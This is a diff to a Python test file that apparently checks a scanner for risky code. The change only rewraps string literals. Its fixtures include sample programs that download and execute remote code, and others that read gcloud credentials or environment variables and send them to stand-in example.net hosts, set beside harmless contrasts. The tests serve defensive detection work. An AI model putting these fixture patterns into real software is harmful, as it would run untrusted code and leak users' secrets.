@@ -28,9 +28,11 @@ def _fence(code: str, language: str = "bash") -> str:
 # A download reaching what runs it, in a program of any language ---------------------------------
 
 RUNS_DOWNLOAD = {
-    "tools/get/main.go": 'package main\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\n'
+    "tools/get/main.go": 'package main\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/'
+                         'exec"\n)\n\n'
                          'func main() {\n\tresp, _ := http.Get("https://dl.example.net/agent")\n'
-                         '\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/agent", data, 0o755)\n'
+                         '\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/agent'
+                         '", data, 0o755)\n'
                          '\texec.Command("/tmp/agent", "--init").Run()\n}\n',
     "scripts/get.js": "const https = require('https');\nconst fs = require('fs');\n"
                       "const { execFileSync } = require('child_process');\n"
@@ -51,19 +53,25 @@ RUNS_DOWNLOAD = {
                        "eval(Net::HTTP.get(URI('https://dl.example.net/boot.rb')))\n",
 }
 READS_DOWNLOAD = {
-    "tools/get/main.go": 'package main\n\nimport (\n\t"encoding/json"\n\t"net/http"\n\t"os/exec"\n)\n\n'
-                         'func main() {\n\tresp, _ := http.Get("https://api.example.net/v1/status")\n'
+    "tools/get/main.go": 'package main\n\nimport (\n\t"encoding/json"\n\t"net/http"\n\t"'
+                         'os/exec"\n)\n\n'
+                         'func main() {\n\tresp, _ := http.Get("https://api.example.net/'
+                         'v1/status")\n'
                          '\tvar s map[string]string\n\tjson.NewDecoder(resp.Body).Decode(&s)\n'
                          '\texec.Command("git", "status").Run()\n}\n',
-    "scripts/get.js": "const data = await fetch('https://api.example.net/items').then(r => r.json());\n"
+    "scripts/get.js": "const data = await fetch('https://api.example.net/items').then(r "
+                      "=> r.json());\n"
                       "const { execFileSync } = require('child_process');\n"
                       "execFileSync('npm', ['run', 'build']);\nconsole.log(data.length);\n",
     "scripts/get.py": "import subprocess, urllib.request\n"
-                      "urllib.request.urlretrieve('https://data.example.net/rows.csv', 'data/rows.csv')\n"
-                      "subprocess.run(['python3', 'scripts/parse.py', 'data/rows.csv'], check=True)\n",
+                      "urllib.request.urlretrieve('https://data.example.net/rows.csv', '"
+                      "data/rows.csv')\n"
+                      "subprocess.run(['python3', 'scripts/parse.py', 'data/rows.csv'], "
+                      "check=True)\n",
     "scripts/verified.py": "import hashlib, subprocess, urllib.request\n"
                            "urllib.request.urlretrieve('https://dl.example.net/tool', 'tool')\n"
-                           "assert hashlib.sha256(open('tool', 'rb').read()).hexdigest() == PINNED\n"
+                           "assert hashlib.sha256(open('tool', 'rb').read()).hexdigest()"
+                           " == PINNED\n"
                            "subprocess.run(['./tool'])\n",
 }
 
@@ -86,8 +94,10 @@ SENDS_CREDENTIALS = {
                         "Net::HTTP.post(URI('https://check.example.net/r'), auths)\n",
     "tools/adc/main.go": 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n)\n\n'
                          'func main() {\n\th, _ := os.UserHomeDir()\n'
-                         '\tb, _ := os.ReadFile(h + "/.config/gcloud/application_default_credentials.json")\n'
-                         '\thttp.Post("https://adc.example.net/u", "application/json", bytes.NewReader(b))\n}\n',
+                         '\tb, _ := os.ReadFile(h + "/.config/gcloud/application_default'
+                         '_credentials.json")\n'
+                         '\thttp.Post("https://adc.example.net/u", "application/json", b'
+                         'ytes.NewReader(b))\n}\n',
     "lib/beacon.js": "const https = require('https');\n"
                      "const blob = Buffer.from(JSON.stringify(process.env)).toString('hex');\n"
                      "https.get('https://cdn.example.net/p.gif?q=' + blob);\n",
@@ -162,7 +172,8 @@ def test_the_same_tools_used_harmlessly_are_not(library: Path, code: str, langua
 @pytest.mark.parametrize(("dockerfile", "risky"), [
     ("FROM debian:12\nADD https://x.example.net/setup.sh /opt/setup.sh\nRUN bash /opt/setup.sh\n",
      True),
-    ("FROM debian:12\nADD --checksum=sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 "
+    ("FROM debian:12\nADD --checksum=sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b"
+     "822cd15d6c15b0f00a08 "
      "https://x.example.net/setup.sh /opt/setup.sh\nRUN bash /opt/setup.sh\n", False),
 ])
 def test_a_dockerfile_running_what_it_adds_from_a_url(library: Path, dockerfile: str,
